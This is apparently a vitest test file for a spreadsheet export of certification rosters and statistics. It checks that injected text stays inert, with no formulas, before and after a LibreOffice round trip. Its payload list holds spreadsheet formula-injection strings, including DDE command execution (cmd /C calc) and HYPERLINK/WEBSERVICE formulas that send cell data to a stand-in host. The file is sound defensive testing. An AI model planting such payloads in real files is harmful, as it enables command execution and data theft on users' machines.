import { expect, it } from 'vitest';
import type { Facts } from '#domain/eligibility/fact';
import { rosters } from '#domain/roster/columns';
import { rosterRow } from '#domain/roster/row';
import { writeRoster } from '#reports/roster';
import { writeStatistics } from '#reports/statistics';
import { type RawCell, rawXlsx } from '#test/reports/raw-xlsx';
import { assessor, supervisor } from '#test/reports/roster-people';
import { at, each, today } from '#test/reports/sample-lists';
import { collector, type SheetFile, sheetFile, throughCalc } from '#test/reports/sheet-file';

/** What spreadsheets take for formulas, commands, numbers or days where nothing stops them (S9). */
const payloads = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=SUM(A1:A9)', '＝1+1', '＋1+1', '－1+1', '＠SUM(1,1)', '%3D1+1'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '　=1+1', '\u00a0=1+1', "'=1+1", '"=1+1"', '\ufeff=1+1', '\u200b=1+1'],
  ...[
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
  ],
  ...[
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    '=WEBSERVICE("http://x.example")',
    '=IMPORTXML("http://x.example","//a")',
  ],
  ...[
    '{=1+1}',
    '=1+1\r\n=2+2',
    '1;=1+1',
    '=1+1;',
    '00123',
    '1E5',
    '2026-11-25',
    '12:30',
    'TRUE',
    '#REF!',
    '_x003D_1+1',
  ],
  ...['<f>1+1</f>', ']]><f>1+1</f>', '&#61;1+1', '5.1E+17', '100%', '¥5'],
];

/** Which cells are no longer the text that they were. */
function changed(sheet: SheetFile, wanted: ReadonlyMap<string, string>, same = (text: string) => text): string[] {
  return [...wanted].flatMap(([place, text]) => {
    const cell = sheet.cells.get(place);
    const isText = cell?.type === 's' || cell?.type === 'inlineStr';
    const isSame = isText && !cell.hasFormula && same(cell.text) === same(text);
    return isSame ? [] : [`${place} ${JSON.stringify(text)} ${JSON.stringify(cell)}`];
  });
}

/** LibreOffice makes one line break of every kind in a text of several lines, whatever file it opened. */
const breaks = (text: string) => text.replaceAll(/\r\n?/gu, '\n');

const textFacts = {
  附件3: ['workplace', 'name', 'idNumber', 'education', 'certificateName', 'titleName', 'phone', 'address'],
  附件5: [
    'idNumber',
    'name',
    'ethnicity',
    'politicalStatus',
    'education',
    'email',
    'currentOccupation',
    'phone',
    'workplace',
    'address',
  ],
};

it.each(['附件3', '附件5'] as const)(
  '%s holds every payload in every text, equal and no formula, in LibreOffice too',
  async (id) => {
    expect(payloads.length).toBeGreaterThanOrEqual(40);
    const person = (id === '附件3' ? assessor(0) : supervisor(0)).facts;
    const items =
      id === '附件3' ? [{ occupations: ['6-31-01-03'] }, { occupations: ['6-31-01-03'], projects: ['=1+1'] }] : [{}];
    const people: Facts[] = payloads.flatMap((payload) => [
      ...textFacts[id].map((fact): Facts => ({ ...person, [fact]: payload })),
      ...items.map(
        (more): Facts => ({ ...person, ...Object.fromEntries(textFacts[id].map((fact) => [fact, payload])), ...more }),
      ),
      ...(id === '附件3'
        ? [
            { ...person, projects: [payload] },
            { ...person, occupations: [`6-31-01-03:${payload}`] },
          ]
        : []),
    ]);
    const { to, bytes } = collector();
    const head = { unit: payloads[0], preparedBy: payloads[11], phone: payloads[20] };
    await writeRoster({ roster: id, kind: 'NEW', head, today, people: each(people) }, { to, at });
    const first = id === '附件3' ? 5 : 4;
    const wanted = new Map<string, string>();
    for (const [index, facts] of people.entries()) {
      const row = rosterRow(id, { facts, serial: index + 1 }, { today });
      for (const [column, { id: name }] of rosters[id].columns.entries()) {
        if (row[name]) wanted.set(`${String.fromCharCode(65 + column)}${first + index}`, row[name]);
      }
    }
    expect(wanted.size).toBeGreaterThan(payloads.length * textFacts[id].length * 5);
    const sheet = sheetFile(bytes());
    expect(changed(sheet, wanted)).toEqual([]);
    expect([...sheet.cells.values()].filter(({ hasFormula, format }) => hasFormula || format !== '@')).toEqual([]);
    expect(sheet.xml).toContain(`${head.unit}（盖章）`.replace('（盖章）', ''));
    const saved = sheetFile(throughCalc(new Map([[id, bytes()]]), 'xlsx').get(id)!);
    expect(changed(saved, wanted, breaks)).toEqual([]);
    expect([...saved.cells.values()].filter(({ hasFormula }) => hasFormula)).toEqual([]);
  },
);

it('holds payloads in titles and lines around a table, and in names of offices', async () => {
  const { to, bytes } = collector();
  async function* rows() {
    for (const centre of payloads) {
      const counts = {
        applied: 1,
        returned: 0,
        rejected: 0,
        qualified: 0,
        enrolled: 0,
        passed: 0,
        failed: 0,
        certified: 0,
        withdrawn: 0,
      };
      yield { year: 2026, centre, category: 'ASSESSOR' as const, counts, stages: [] };
    }
  }
  await writeStatistics(
    { year: 2026, officeName: '=1+1\r"<&>', today, rows: rows(), nameOf: (centre) => centre },
    { to, at },
  );
  const wanted = new Map(payloads.map((payload, index) => [`B${index + 4}`, payload]));
  wanted.set('A2', '填报单位：=1+1\r"<&>');
  expect(changed(sheetFile(bytes()), wanted)).toEqual([]);
  const saved = sheetFile(throughCalc(new Map([['x', bytes()]]), 'xlsx').get('x')!);
  expect(changed(saved, wanted, breaks)).toEqual([]);
});

it('would see a formula, a number and a text that was changed', () => {
  const formula: RawCell = { attributes: 't="str"', content: '<f>1+1</f><v>=1+1</v>' };
  const sheet = sheetFile(rawXlsx({ sheets: [{ name: '样例', rows: [[formula, 2, "'=1+1", '=1+1']] }] }));
  const wanted = new Map(['A1', 'B1', 'C1', 'D1'].map((place) => [place, place === 'B1' ? '2' : '=1+1']));
  expect(changed(sheet, wanted).map((line) => line.slice(0, 2))).toEqual(['A1', 'B1', 'C1']);
});
